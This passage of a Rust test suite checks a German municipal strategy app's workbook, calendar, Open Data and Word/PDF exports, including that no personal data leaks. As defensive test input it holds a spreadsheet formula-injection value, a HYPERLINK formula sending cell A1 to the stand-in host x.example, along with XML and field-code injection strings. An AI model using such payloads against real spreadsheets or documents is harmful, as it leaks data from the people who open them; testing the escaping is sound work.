//! Exports the municipality keeps working with, read back with tools made for each format:
//! the workbook with calamine, the calendar with the icalendar parser, the Open Data package
//! with the csv reader and a Turtle parser. Same project → same bytes; no personal data.

use std::path::{Path, PathBuf};

use calamine::{open_workbook, Data, Reader, Xlsx};
use serde_json::json;
use zukunftskommune::api::{Command, ExportFormat, ExportResult, ProjectCommand};
use zukunftskommune::{Reply, Session};

use crate::common::*;

fn export(s: &mut Session, format: ExportFormat, path: &Path) -> ExportResult {
    match call(
        s,
        Command::Project(ProjectCommand::Export {
            format,
            path: path.display().to_string(),
        }),
    ) {
        Reply::Exported(r) => r,
        r => panic!("unexpected {r:?}"),
    }
}

/// The German message an export to `target` is refused with.
fn refused(s: &mut Session, format: ExportFormat, target: &Path) -> String {
    call_err(
        s,
        Command::Project(ProjectCommand::Export {
            format,
            path: target.display().to_string(),
        }),
    )
    .message
}

/// A stakeholder with a name and contact that are not public: none of the exports may carry them.
fn add_private_person(s: &mut Session) {
    run_json(
        s,
        &json!({"goals": {"save_stakeholder": {"role": "Ortsvorsteher", "organisation": "Ortschaftsrat",
            "name": "Erika Geheim-Mustermann", "contact": "erika@example.org", "public": false}}})
        .to_string(),
    )
    .unwrap();
}

const HOSTILE: &str = "<w:t>]]>&amp; \"Zitat\" 'x' { PAGE } =SUMME(A1) 🚀";

fn demo_with_hostile_title(dir: &Path) -> (Session, PathBuf) {
    let path = demo(dir);
    let mut s = open(&path);
    let m = measures(&mut s).measures[0].measure.clone();
    run_json(
        &mut s,
        &json!({"measures": {"save_measure": {"id": m.id, "title": HOSTILE}}}).to_string(),
    )
    .unwrap();
    add_private_person(&mut s);
    (s, path)
}

fn cell_text(d: &Data) -> String {
    match d {
        Data::String(t) => t.clone(),
        Data::Empty => String::new(),
        other => other.to_string(),
    }
}

#[test]
fn the_workbook_holds_every_measure_with_amounts_as_numbers_and_the_core_s_sums() {
    let dir = temp();
    let (mut s, _) = demo_with_hostile_title(dir.path());
    let view = measures(&mut s);
    let out = dir.path().join("Musterstadt.xlsx");
    export(&mut s, ExportFormat::Xlsx, &out);
    let again = dir.path().join("again.xlsx");
    export(&mut s, ExportFormat::Xlsx, &again);
    assert_eq!(
        std::fs::read(&out).unwrap(),
        std::fs::read(&again).unwrap(),
        "same project, same bytes"
    );

    let mut book: Xlsx<_> = open_workbook(&out).unwrap();
    assert_eq!(
        book.sheet_names(),
        [
            "Maßnahmen",
            "Budget je Jahr",
            "Digitalisierungs-Check",
            "Ideen",
            "Zeitplan"
        ]
    );
    let sheet = book.worksheet_range("Maßnahmen").unwrap();
    let rows: Vec<&[Data]> = sheet.rows().collect();
    let header: Vec<String> = rows[0].iter().map(cell_text).collect();
    let col = |name: &str| {
        header
            .iter()
            .position(|h| h == name)
            .unwrap_or_else(|| panic!("{name}"))
    };
    assert_eq!(rows.len(), view.measures.len() + 1);
    for (row, m) in rows[1..].iter().zip(&view.measures) {
        assert_eq!(cell_text(&row[col("Nr.")]), m.measure.number);
        assert_eq!(
            cell_text(&row[col("Titel")]),
            m.measure.title,
            "user text stays literal"
        );
        match m.measure.cost_once_cents {
            Some(c) => assert_eq!(row[col("Kosten einmalig")], Data::Float(c as f64 / 100.0)),
            None => assert_eq!(
                row[col("Kosten einmalig")],
                Data::Empty,
                "unknown is empty, never 0"
            ),
        }
        assert_eq!(
            cell_text(&row[col("Status")]),
            zukunftskommune::model::Choice::label(m.measure.status)
        );
    }
    assert!(rows.iter().any(|r| cell_text(&r[col("Titel")]) == HOSTILE));

    // The budget: numbers per year, and the sum row equals the core's total.
    let budget = book.worksheet_range("Budget je Jahr").unwrap();
    let rows: Vec<&[Data]> = budget.rows().collect();
    let sum = rows
        .iter()
        .find(|r| cell_text(&r[0]) == "Summe")
        .expect("sum row");
    assert_eq!(
        sum[4],
        Data::Float(view.budget.total.total_cents as f64 / 100.0)
    );
    assert_eq!(
        sum[6],
        Data::Float(view.budget.total.funding_open_cents as f64 / 100.0)
    );
    // Every demo measure names its rate: the Eigenanteil is exact, not an upper bound.
    assert_eq!(view.budget.total.funding_open_cents, 0);
    assert_eq!(cell_text(&rows[0][7]), "Eigenanteil");
    assert_eq!(
        sum[7],
        Data::Float(view.budget.total.own_share_cents as f64 / 100.0)
    );
    let years: f64 = rows[1..]
        .iter()
        .take_while(|r| cell_text(&r[0]) != "Summe")
        .map(|r| match r[4] {
            Data::Float(v) => v,
            ref d => panic!("amount as text: {d:?}"),
        })
        .sum();
    assert!((years - view.budget.total.total_cents as f64 / 100.0).abs() < 0.005);

    // The check and the timeline are there, with the demo's rows.
    let check = book.worksheet_range("Digitalisierungs-Check").unwrap();
    let items: usize = self::check(&mut s)
        .dimensions
        .iter()
        .map(|d| d.items.len())
        .sum();
    assert!(check.height() > items);
    let timeline = book.worksheet_range("Zeitplan").unwrap();
    assert_eq!(timeline.height(), goals(&mut s).timeline.len() + 1);
    assert!(
        matches!(timeline.get((1, 2)), Some(Data::DateTime(_))),
        "dates are dates"
    );

    // Nothing personal.
    for name in book.sheet_names() {
        let range = book.worksheet_range(&name).unwrap();
        for cell in range.used_cells() {
            let t = cell_text(cell.2);
            assert!(
                !t.contains("Geheim-Mustermann") && !t.contains("erika@"),
                "{name}: {t}"
            );
        }
    }
}

#[test]
fn the_calendar_has_the_dates_with_stable_uids() {
    let dir = temp();
    let (mut s, _) = demo_with_hostile_title(dir.path());
    let out = dir.path().join("Termine.ics");
    export(&mut s, ExportFormat::Ics, &out);
    let text = std::fs::read_to_string(&out).unwrap();
    let calendar: icalendar::Calendar = text.parse().expect("parses as iCalendar");
    use icalendar::Component;
    let events: Vec<_> = calendar.events().collect();
    let timeline = goals(&mut s).timeline;
    let expected: Vec<_> = timeline
        .iter()
        .filter(|t| {
            t.start.is_some() && zukunftskommune::export::calendar::CALENDAR_KINDS.contains(&t.kind)
        })
        .collect();
    assert_eq!(events.len(), expected.len());
    assert!(!events.is_empty());
    for (e, t) in events.iter().zip(&expected) {
        assert_eq!(
            e.get_uid(),
            Some(format!("{}@zukunftskommune", t.id).as_str())
        );
        assert_eq!(e.get_summary(), Some(t.title.as_str()));
        assert_eq!(
            e.get_start(),
            Some(icalendar::DatePerhapsTime::Date(t.start.unwrap()))
        );
    }
    assert!(text.contains("X-WR-TIMEZONE:Europe/Berlin"));

    // A renamed date keeps its UID (a calendar updates it instead of adding it twice).
    let first = expected[0].clone();
    run_json(
        &mut s,
        &json!({"goals": {"save_timeline_entry": {"id": first.id, "title": "Gemeinderat: neuer Titel"}}}).to_string(),
    )
    .unwrap();
    let out2 = dir.path().join("Termine-2.ics");
    export(&mut s, ExportFormat::Ics, &out2);
    let text2 = std::fs::read_to_string(&out2).unwrap();
    let calendar2: icalendar::Calendar = text2.parse().unwrap();
    let renamed = calendar2
        .events()
        .find(|e| e.get_uid() == Some(format!("{}@zukunftskommune", first.id).as_str()))
        .unwrap();
    assert_eq!(renamed.get_summary(), Some("Gemeinderat: neuer Titel"));
    assert_eq!(calendar2.events().count(), events.len());
    assert!(!text2.contains("Geheim-Mustermann"));
}

/// A past workshop never marked done is not announced as „geplant“ in the calendar (a real
/// strategy's timeline typed in afterwards keeps that status): it reads as the window shows it.
#[test]
fn the_calendar_does_not_call_a_past_date_planned() {
    let dir = temp();
    let (mut s, _) = demo_with_hostile_title(dir.path());
    for (title, start, status) in [
        ("Werkstatt im März 2023", "2023-03-01", "geplant"),
        ("Ausschuss, verschoben", "2023-04-01", "verschoben"),
        ("Werkstatt 2030", "2030-03-01", "geplant"),
        ("Werkstatt 2022", "2022-03-01", "erledigt"),
    ] {
        run_json(
            &mut s,
            &json!({"goals": {"save_timeline_entry": {"title": title, "kind": "workshop", "start": start, "status": status}}}).to_string(),
        )
        .unwrap();
    }
    let out = dir.path().join("Termine.ics");
    export(&mut s, ExportFormat::Ics, &out);
    let calendar: icalendar::Calendar = std::fs::read_to_string(&out).unwrap().parse().unwrap();
    use icalendar::Component;
    let description = |title: &str| {
        let e = calendar
            .events()
            .find(|e| e.get_summary() == Some(title))
            .unwrap_or_else(|| panic!("{title} fehlt"));
        e.get_description().unwrap().to_string()
    };
    let past = description("Werkstatt im März 2023");
    assert!(
        past.contains("Datum vorbei, im Zeitplan noch nicht als erledigt vermerkt"),
        "{past}"
    );
    assert!(!past.contains("geplant"), "{past}");
    let moved = description("Ausschuss, verschoben");
    assert!(
        moved.contains("verschoben, noch ohne neuen Termin"),
        "{moved}"
    );
    assert!(description("Werkstatt 2030").contains("Status: geplant."));
    assert!(description("Werkstatt 2022").contains("Status: erledigt."));
}

/// Titles can come from citizens' phones and the municipality publishes the CSV: a cell that
/// begins like a formula gets a leading ' so no spreadsheet opening the file runs it; other
/// text and the amounts stay as they are.
#[test]
fn the_open_data_csv_holds_no_cell_a_spreadsheet_would_run() {
    let dir = temp();
    let mut s = open(&demo(dir.path()));
    let injected = "=HYPERLINK(\"http://x.example/?\"&A1;\"Klick\")";
    run_json(
        &mut s,
        &json!({"measures": {"save_measure": {
            "title": injected, "description": "- Punkt eins\n- Punkt zwei", "goal": "@SUM(1+1)",
            "lead": "+49 Bürgeramt", "cost_once_cents": 1_250_000
        }}})
        .to_string(),
    )
    .unwrap();
    let folder = dir.path().join("open-data");
    export(&mut s, ExportFormat::Opendata, &folder);
    let mut csv = csv::Reader::from_path(folder.join("massnahmen.csv")).unwrap();
    let header: Vec<String> = csv.headers().unwrap().iter().map(str::to_owned).collect();
    let at = |name: &str| header.iter().position(|h| h == name).unwrap();
    let records: Vec<csv::StringRecord> = csv.records().map(Result::unwrap).collect();
    let row = records
        .iter()
        .find(|r| r[at("titel")].contains("HYPERLINK"))
        .expect("the measure is in the CSV");
    assert_eq!(&row[at("titel")], format!("'{injected}"));
    assert_eq!(&row[at("beschreibung")], "'- Punkt eins\n- Punkt zwei");
    assert_eq!(&row[at("ziel")], "'@SUM(1+1)");
    assert_eq!(&row[at("federfuehrung")], "'+49 Bürgeramt");
    assert_eq!(&row[at("kosten_einmalig_eur")], "12500.00");
    for record in &records {
        for cell in record {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell}"
            );
        }
    }
    let readme = std::fs::read_to_string(folder.join("LIESMICH.txt")).unwrap();
    assert!(readme.contains("vorangestelltem '"), "{readme}");
}

#[test]
fn the_open_data_package_has_a_documented_csv_and_dcat_ap_de_metadata() {
    let dir = temp();
    let (mut s, _) = demo_with_hostile_title(dir.path());
    let view = measures(&mut s);
    let folder = dir.path().join("open-data");
    let r = export(&mut s, ExportFormat::Opendata, &folder);
    assert_eq!(r.files.len(), 4);

    let mut csv = csv::Reader::from_path(folder.join("massnahmen.csv")).unwrap();
    let header: Vec<String> = csv.headers().unwrap().iter().map(str::to_owned).collect();
    let documented: Vec<String> = csv::Reader::from_path(folder.join("spalten.csv"))
        .unwrap()
        .records()
        .map(|r| r.unwrap()[0].to_owned())
        .collect();
    assert_eq!(header, documented, "every column is documented");
    let records: Vec<csv::StringRecord> = csv.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), view.measures.len());
    let at = |name: &str| header.iter().position(|h| h == name).unwrap();
    for (rec, m) in records.iter().zip(&view.measures) {
        assert_eq!(&rec[at("nummer")], m.measure.number);
        assert_eq!(rec[at("titel")].trim_start_matches('\''), m.measure.title);
        match m.measure.cost_once_cents {
            Some(c) => assert_eq!(
                rec[at("kosten_einmalig_eur")].parse::<f64>().unwrap(),
                c as f64 / 100.0
            ),
            None => assert_eq!(&rec[at("kosten_einmalig_eur")], ""),
        }
    }

    // Well-formed Turtle with the mandatory DCAT-AP.de properties.
    let ttl = std::fs::read(folder.join("metadaten.ttl")).unwrap();
    let triples: Vec<oxrdf::Triple> = oxttl::TurtleParser::new()
        .for_slice(&ttl)
        .map(|t| t.expect("valid Turtle"))
        .collect();
    let has = |p: &str, o: &str| {
        triples
            .iter()
            .any(|t| t.predicate.as_str() == p && t.object.to_string().contains(o))
    };
    assert!(has(
        "http://www.w3.org/1999/02/22-rdf-syntax-ns#type",
        "http://www.w3.org/ns/dcat#Dataset"
    ));
    assert!(has(
        "http://www.w3.org/1999/02/22-rdf-syntax-ns#type",
        "http://www.w3.org/ns/dcat#Distribution"
    ));
    assert!(has("http://purl.org/dc/terms/title", "Musterstadt"));
    // The name as in the title: „der Digitalisierungsstrategie Stadt Musterstadt“ lacked
    // its genitive.
    let count = view.measures.len();
    assert!(has(
        "http://purl.org/dc/terms/description",
        &format!("Die {count} Maßnahmen der Digitalisierungsstrategie Musterstadt:")
    ));
    assert!(has(
        "http://purl.org/dc/terms/license",
        "http://dcat-ap.de/def/licenses/dl-by-de/2.0"
    ));
    assert!(has("http://xmlns.com/foaf/0.1/name", "Musterstadt"));
    assert!(has("http://purl.org/dc/terms/publisher", ""));
    assert!(has("http://www.w3.org/ns/dcat#distribution", "urn:uuid:"));
    assert!(has(
        "http://dcat-ap.de/def/dcatde/politicalGeocodingURI",
        "municipalityKey/"
    ));

    // The same project gives the same package; nothing personal is in it.
    let again = dir.path().join("again");
    export(&mut s, ExportFormat::Opendata, &again);
    for name in [
        "massnahmen.csv",
        "spalten.csv",
        "metadaten.ttl",
        "LIESMICH.txt",
    ] {
        let bytes = std::fs::read(folder.join(name)).unwrap();
        assert_eq!(bytes, std::fs::read(again.join(name)).unwrap(), "{name}");
        let text = String::from_utf8(bytes).unwrap();
        assert!(
            !text.contains("Geheim-Mustermann") && !text.contains("erika@"),
            "{name}"
        );
    }
}

#[test]
fn an_export_to_a_bad_place_is_refused_in_german_and_the_project_is_unchanged() {
    let dir = temp();
    let mut s = open(&demo(dir.path()));
    let before = export_json_text(&mut s);
    let file = dir.path().join("schon-eine-datei.txt");
    std::fs::write(&file, "x").unwrap();
    let e = refused(&mut s, ExportFormat::Opendata, &file);
    assert!(e.contains("braucht einen Ordner"), "{e}");
    let e = refused(
        &mut s,
        ExportFormat::Xlsx,
        &dir.path().join("fehlt/ordner/x.xlsx"),
    );
    assert!(!e.is_empty());
    assert_eq!(export_json_text(&mut s), before);
}

/// An export never replaces the open project or a file of another kind, and is written only
/// under its format's extension: `export X.zukunft --format docx -o X.zukunft` wrote a Word
/// file over the project, and `--format vorlage -o Vorlage.pdf` a Word file named PDF.
#[test]
fn an_export_never_replaces_the_project_or_a_file_of_another_kind() {
    let dir = temp();
    let path = demo(dir.path());
    let mut s = open(&path);
    let before = export_json_text(&mut s);
    // The open project, by its name and through a hard link named like the export.
    for format in [
        ExportFormat::Docx,
        ExportFormat::Xlsx,
        ExportFormat::Ics,
        ExportFormat::Vorlage,
        ExportFormat::VorlagePdf,
        ExportFormat::Opendata,
    ] {
        let e = refused(&mut s, format, &path);
        assert!(
            e.contains("geöffnete Projektdatei") || e.contains("braucht einen Ordner"),
            "{format:?}: {e}"
        );
    }
    let link = dir.path().join("Projekt.docx");
    std::fs::hard_link(&path, &link).unwrap();
    let e = refused(&mut s, ExportFormat::Docx, &link);
    assert!(e.contains("geöffnete Projektdatei"), "{e}");
    // The wrong extension for what is written.
    let e = refused(
        &mut s,
        ExportFormat::Vorlage,
        &dir.path().join("Vorlage.pdf"),
    );
    assert!(e.contains("Word-Datei") && e.contains(".docx"), "{e}");
    assert!(!dir.path().join("Vorlage.pdf").exists());
    let e = refused(&mut s, ExportFormat::Ics, &dir.path().join("Termine.xlsx"));
    assert!(e.contains(".ics"), "{e}");
    // Existing files of another kind are left as they were.
    for (format, name) in [
        (ExportFormat::Docx, "Notizen.docx"),
        (ExportFormat::Xlsx, "Haushalt.xlsx"),
        (ExportFormat::Ics, "Termine.ics"),
        (ExportFormat::VorlagePdf, "Vorlage.pdf"),
    ] {
        let other = dir.path().join(name);
        std::fs::write(&other, "meine Notizen").unwrap();
        let e = refused(&mut s, format, &other);
        assert!(e.contains("nicht überschrieben"), "{format:?}: {e}");
        assert_eq!(std::fs::read_to_string(&other).unwrap(), "meine Notizen");
    }
    assert_eq!(export_json_text(&mut s), before, "the project is untouched");
    drop(s);
    let mut s = open(&path);
    assert_eq!(export_json_text(&mut s), before, "and still opens");
    // An earlier export of the same kind is replaced.
    let out = dir.path().join("Strategie.docx");
    export(&mut s, ExportFormat::Docx, &out);
    export(&mut s, ExportFormat::Docx, &out);
    let cal = dir.path().join("Kalender.ics");
    export(&mut s, ExportFormat::Ics, &cal);
    export(&mut s, ExportFormat::Ics, &cal);
    // The CLI: an error, the project byte for byte as before.
    drop(s);
    let bytes = std::fs::read(&path).unwrap();
    let out = std::process::Command::new(crate::common::zukunft_bin())
        .args([
            "export",
            &path.display().to_string(),
            "--format",
            "docx",
            "-o",
            &path.display().to_string(),
        ])
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("geöffnete Projektdatei"));
    assert_eq!(std::fs::read(&path).unwrap(), bytes);
}

fn export_json_text(s: &mut Session) -> String {
    crate::common::export(s)
}

/// The Beschlussvorlage opens in LibreOffice (as the administration's Word would) and says what
/// the core computed: the measures, the areas, the amounts per year and their sum.
#[test]
fn the_beschlussvorlage_opens_in_libreoffice_with_the_core_s_numbers() {
    let dir = temp();
    let mut s = open(&demo_draft(dir.path()));
    run_json(
        &mut s,
        &json!({"project": {"save_profile": {"mayor": "Bürgermeisterin <w:t>]]>&amp; { PAGE }"}}})
            .to_string(),
    )
    .unwrap();
    let view = measures(&mut s);
    let out = dir.path().join("Vorlage.docx");
    export(&mut s, ExportFormat::Vorlage, &out);
    let again = dir.path().join("again.docx");
    export(&mut s, ExportFormat::Vorlage, &again);
    assert_eq!(
        std::fs::read(&out).unwrap(),
        std::fs::read(&again).unwrap(),
        "same project, same bytes"
    );

    let from_word = pdf_text(&libreoffice_pdf(&out));
    // The PDF the app writes itself carries the same text (one content, two formats).
    let own_pdf = dir.path().join("Vorlage-eigen.pdf");
    export(&mut s, ExportFormat::VorlagePdf, &own_pdf);
    let own_again = dir.path().join("Vorlage-eigen-2.pdf");
    export(&mut s, ExportFormat::VorlagePdf, &own_again);
    assert_eq!(
        std::fs::read(&own_pdf).unwrap(),
        std::fs::read(&own_again).unwrap()
    );
    let info = std::process::Command::new("pdfinfo")
        .arg(&own_pdf)
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&info.stdout).contains("Tagged:          yes"));
    let own = pdf_text(&own_pdf);
    let total = zukunftskommune::analysis::format_euro(view.budget.total.total_cents)
        .replace('\u{a0}', " ");
    let first_year = view.budget.years[0].year.to_string();
    for needle in [
        "Beschlussvorlage",
        "Betreff",
        "Beschlussvorschlag",
        "Der Gemeinderat beschließt die Digitalisierungsstrategie Musterstadt",
        "mit 8 Lebensbereichen und 40 Maßnahmen (Anlage 1)",
        "Sachverhalt und Begründung",
        "Musterstadt hat von Januar bis Oktober 2025 eine Digitalisierungsstrategie erarbeitet",
        "Finanzielle Auswirkungen",
        &first_year,
        &total,
        "Anlagen",
        // User text stays literal: no markup, no field.
        "Bürgermeisterin <w:t>]]>&amp; { PAGE }",
    ] {
        for text in [&from_word, &own] {
            assert!(
                text.contains(&squeeze(needle)),
                "Vorlage lacks „{needle}“:\n{text}"
            );
        }
    }
}

/// The Beschlussvorlage names the body that adopts the strategy by the kind of municipality: a
/// Landkreis's Kreistag, a Gemeindeverwaltungsverband's Verbandsversammlung (a Landkreis's said
/// „Der Gemeinderat beschließt“); the chapter sentence on the goals' indicators names it too.
#[test]
fn the_vorlage_names_the_council_of_the_kind_of_municipality() {
    let dir = temp();
    let path = demo_draft(dir.path());
    let mut s = open(&path);
    let section = strategy(&mut s).sections[2].id;
    run_json(
        &mut s,
        &json!({"strategy": {"save_section": {"id": section, "body": "{goal_indicators} Bericht an {council_dative}."}}})
            .to_string(),
    )
    .unwrap();
    for (kind, subject, dative, name, nominative) in [
        (
            "Landkreis",
            "Der Kreistag beschließt",
            "berichtet dem Kreistag",
            "Kreistag",
            "der Kreistag den Fortschritt",
        ),
        (
            "Gemeindeverwaltungsverband",
            "Die Verbandsversammlung beschließt",
            "berichtet der Verbandsversammlung",
            "Verbandsversammlung",
            "die Verbandsversammlung den Fortschritt",
        ),
        (
            "Gemeinde",
            "Der Gemeinderat beschließt",
            "berichtet dem Gemeinderat",
            "Gemeinderat",
            "der Gemeinderat den Fortschritt",
        ),
    ] {
        run_json(
            &mut s,
            &json!({"project": {"save_profile": {"kind": kind}}}).to_string(),
        )
        .unwrap();
        let pdf = dir.path().join(format!("Vorlage-{kind}.pdf"));
        export(&mut s, ExportFormat::VorlagePdf, &pdf);
        let text = pdf_text(&pdf);
        for needle in [
            subject,
            dative,
            &format!("Gremium und Sitzung: {name}, Sitzung am"),
        ] {
            assert!(text.contains(&squeeze(needle)), "{kind}: lacks „{needle}“");
        }
        if kind != "Gemeinde" {
            // (The demo's version label „Beschlossen vom Gemeinderat …“ is its own text.)
            for generic in [
                "Der Gemeinderat beschließt",
                "berichtet dem Gemeinderat",
                "Sitzung: Gemeinderat",
            ] {
                assert!(!text.contains(&squeeze(generic)), "{kind}: „{generic}“");
            }
        }
        // The chapter templates' sentence on the goals' indicators.
        let view = strategy(&mut s);
        let at = view.sections.iter().position(|x| x.id == section).unwrap();
        assert!(
            view.previews[at].contains(nominative),
            "{kind}: {}",
            view.previews[at]
        );
        let to = dative.trim_start_matches("berichtet ");
        assert!(
            view.previews[at].contains(&format!("Bericht an {to}.")),
            "{kind}: {}",
            view.previews[at]
        );
    }
}

fn pdf_text(pdf: &Path) -> String {
    let out = std::process::Command::new("pdftotext")
        .args([pdf.display().to_string(), "-".into()])
        .output()
        .unwrap();
    squeeze(&String::from_utf8_lossy(&out.stdout))
}

/// Writes the Beschlussvorlage as PDF to `dir/Vorlage.pdf` and returns its text, squeezed.
fn vorlage_text(s: &mut Session, dir: &Path) -> String {
    let pdf = dir.join("Vorlage.pdf");
    export(s, ExportFormat::VorlagePdf, &pdf);
    pdf_text(&pdf)
}

/// Converts a Word document to PDF with LibreOffice, as a colleague without Word would open it.
fn libreoffice_pdf(docx: &Path) -> PathBuf {
    let dir = docx.parent().unwrap();
    let profile = dir.join("lo-profile");
    let converted = std::process::Command::new("soffice")
        .args([
            &format!("-env:UserInstallation=file://{}", profile.display()),
            "--headless",
            "--convert-to",
            "pdf",
            "--outdir",
            &dir.display().to_string(),
            &docx.display().to_string(),
        ])
        .output()
        .expect("LibreOffice (soffice) is installed by the Makefile: libreoffice-writer-nogui");
    assert!(
        converted.status.success(),
        "{}",
        String::from_utf8_lossy(&converted.stderr)
    );
    docx.with_extension("pdf")
}

/// A PDF's bookmarks (qpdf), one line per heading, indented by level.
fn pdf_outline(pdf: &Path) -> Vec<String> {
    let out = std::process::Command::new("qpdf")
        .args(["--json", "--json-key=outlines"])
        .arg(pdf)
        .output()
        .unwrap();
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    fn walk(items: &serde_json::Value, depth: usize, lines: &mut Vec<String>) {
        for item in items.as_array().into_iter().flatten() {
            lines.push(format!(
                "{}{}",
                "  ".repeat(depth),
                item["title"].as_str().unwrap()
            ));
            walk(&item["kids"], depth + 1, lines);
        }
    }
    let mut lines = Vec::new();
    walk(&json["outlines"], 0, &mut lines);
    lines
}

/// The strategy as Word, opened with LibreOffice: the same chapters in the same order with the
/// same numbers as the PDF the app writes (their outlines are equal), every measure, the budget
/// total, the texts of the chapters, „Seite x von y“; typed text stays literal, no personal
/// data, same project → same bytes.
#[test]
fn the_strategy_as_word_has_the_pdf_s_chapters_measures_and_numbers() {
    let dir = temp();
    let (mut s, _) = demo_with_hostile_title(dir.path());
    let vorwort = strategy(&mut s)
        .sections
        .into_iter()
        .find(|x| x.key == "vorwort")
        .unwrap();
    // The longest chapter the core takes, beginning with hostile text.
    let mut body = format!("{HOSTILE}\n\nZeile eins\nZeile zwei\n\n");
    let filler = zukunftskommune::model::MAX_CHAPTER_CHARS - body.chars().count() - 11;
    body.push_str(&"Wortreich ".repeat(filler / 10));
    body.push_str(&" ".repeat(filler % 10));
    body.push_str("Schlusswort");
    assert_eq!(
        body.chars().count(),
        zukunftskommune::model::MAX_CHAPTER_CHARS
    );
    run_json(
        &mut s,
        &json!({"strategy": {"save_section": {"id": vorwort.id, "body": body}}}).to_string(),
    )
    .unwrap();

    let out = dir.path().join("Strategie.docx");
    export(&mut s, ExportFormat::Docx, &out);
    // Another Word export in between must not change the next one's bytes (the Vorlage, of a
    // draft: the demo's strategy is in force).
    let draft_dir = temp();
    export(
        &mut open(&demo_draft(draft_dir.path())),
        ExportFormat::Vorlage,
        &dir.path().join("Vorlage.docx"),
    );
    let again = dir.path().join("again.docx");
    export(&mut s, ExportFormat::Docx, &again);
    assert_eq!(
        std::fs::read(&out).unwrap(),
        std::fs::read(&again).unwrap(),
        "same project, same bytes"
    );

    let own_pdf = dir.path().join("Strategie-eigen.pdf");
    crate::report::report(&mut s, &own_pdf, None);
    let from_word = libreoffice_pdf(&out);
    let outline = pdf_outline(&from_word);
    assert!(outline.len() > 60, "{outline:?}");
    assert_eq!(
        outline,
        pdf_outline(&own_pdf),
        "same chapters, order, titles and numbers"
    );
    for heading in [
        "1 Einleitung",
        "  6.3 Kosten und Förderung",
        "  Maßnahmen-Steckbriefe",
    ] {
        assert!(outline.iter().any(|l| l == heading), "{heading}");
    }

    let text = pdf_text(&from_word);
    let view = measures(&mut s);
    for m in &view.measures {
        if m.measure.title != HOSTILE {
            assert!(
                text.contains(&squeeze(&m.measure.title)),
                "{}",
                m.measure.title
            );
        }
        assert!(text.contains(&squeeze(&m.measure.number)));
    }
    let total = zukunftskommune::analysis::format_euro(view.budget.total.total_cents)
        .replace('\u{a0}', " ");
    assert!(text.contains(&squeeze(&total)), "budget total {total}");
    for y in &view.budget.years {
        let amount = zukunftskommune::analysis::format_euro(y.total_cents).replace('\u{a0}', " ");
        assert!(text.contains(&squeeze(&amount)), "{}: {amount}", y.year);
    }
    let strategy = strategy(&mut s);
    for (section, preview) in strategy.sections.iter().zip(&strategy.previews) {
        if section.included && section.key != "vorwort" {
            for paragraph in preview.split("\n\n").filter(|p| !p.trim().is_empty()) {
                assert!(
                    text.contains(&squeeze(paragraph)),
                    "{}: {paragraph}",
                    section.title
                );
            }
        }
    }
    // Short headers and values are never broken inside a word: the dot votes' columns were too
    // narrow for „Punkte“ and „Lebensbereich“ („Pun kte“, „Lebensbereic h“).
    let layout = crate::report::tool(
        "pdftotext",
        &["-layout", &from_word.display().to_string(), "-"],
    );
    let whole = |line: &str, words: &[&str]| {
        words
            .iter()
            .all(|w| line.split_whitespace().any(|x| x == *w))
    };
    assert!(
        layout
            .lines()
            .any(|l| whole(l, &["Veranstaltung", "Art", "Eintrag", "Punkte"])),
        "the dot votes' header"
    );
    assert!(layout
        .lines()
        .filter(|l| l.contains("Zukunftswerkstatt") && l.contains("Lebensbereic"))
        .all(|l| whole(l, &["Lebensbereich"])));
    // Typed text stays literal: no markup, no field; a line break stays a line break.
    assert!(text.contains(&squeeze("<w:t>]]>&amp; \"Zitat\" 'x' { PAGE } =SUMME(A1)")));
    assert!(text.contains("ZeileeinsZeilezwei"));
    assert!(
        text.contains("WortreichSchlusswort"),
        "the whole chapter is there"
    );
    assert!(text.contains("Seite3von"), "page numbers as fields");
    assert!(!text.contains("GeheimMustermann"), "no personal data");
    assert!(
        !text.contains("PAGEREF") && !text.contains("TOC\\o"),
        "no field code shows"
    );
}

/// The cover logo goes into the Word document as a picture whatever it was stored as: PNG,
/// JPEG (turned into PNG) or SVG (rasterised); LibreOffice finds it on the first page.
#[test]
fn the_cover_logo_is_a_picture_in_word_from_png_jpeg_and_svg() {
    let dir = temp();
    let mut s = open(&demo(dir.path()));
    let jpeg = dir.path().join("Wappen.jpg");
    image::RgbImage::from_fn(64, 80, |x, y| {
        image::Rgb([(x * 4) as u8, (y * 3) as u8, 120])
    })
    .save(&jpeg)
    .unwrap();
    let svg = dir.path().join("Wappen.svg");
    std::fs::write(
        &svg,
        r##"<svg xmlns="http://www.w3.org/2000/svg" width="60" height="80"><rect width="60" height="80" fill="#1d4f91"/><text x="10" y="50" font-family="Liberation Sans">W</text></svg>"##,
    )
    .unwrap();
    for (i, logo) in [crate::report::png_logo(dir.path()), jpeg, svg]
        .iter()
        .enumerate()
    {
        call(
            &mut s,
            Command::Strategy(zukunftskommune::api::StrategyCommand::SetLogo {
                path: Some(logo.display().to_string()),
            }),
        );
        let out = dir.path().join(format!("Strategie-{i}.docx"));
        export(&mut s, ExportFormat::Docx, &out);
        let pdf = libreoffice_pdf(&out);
        let list = std::process::Command::new("pdfimages")
            .args(["-f", "1", "-l", "1", "-list"])
            .arg(&pdf)
            .output()
            .unwrap();
        let images = String::from_utf8_lossy(&list.stdout)
            .lines()
            .skip(2)
            .filter(|l| l.split_whitespace().nth(2) == Some("image"))
            .count();
        assert_eq!(
            images,
            1,
            "{}: {}",
            logo.display(),
            String::from_utf8_lossy(&list.stdout)
        );
    }
}

/// A project just begun (no measures, no check answers, no dates) gives a Word strategy too,
/// with the same chapters as its PDF.
#[test]
fn a_new_project_s_strategy_in_word_has_the_pdf_s_chapters() {
    let dir = temp();
    let (mut s, _) = new_project(
        dir.path(),
        "Neustadt an der Langen Namensstraße im Landkreis",
    );
    let out = dir.path().join("Neu.docx");
    export(&mut s, ExportFormat::Docx, &out);
    let own_pdf = dir.path().join("Neu-eigen.pdf");
    crate::report::report(&mut s, &own_pdf, None);
    let from_word = libreoffice_pdf(&out);
    assert_eq!(pdf_outline(&from_word), pdf_outline(&own_pdf));
    let text = pdf_text(&from_word);
    assert!(
        text.contains("NochkeineMaßnahmen") || text.contains("Keine"),
        "{text}"
    );
}

/// The Word export's steering group has a „Name“ column only when a name is printed, like the
/// PDF (names are printed only for members marked public; none of the demo's is).
#[test]
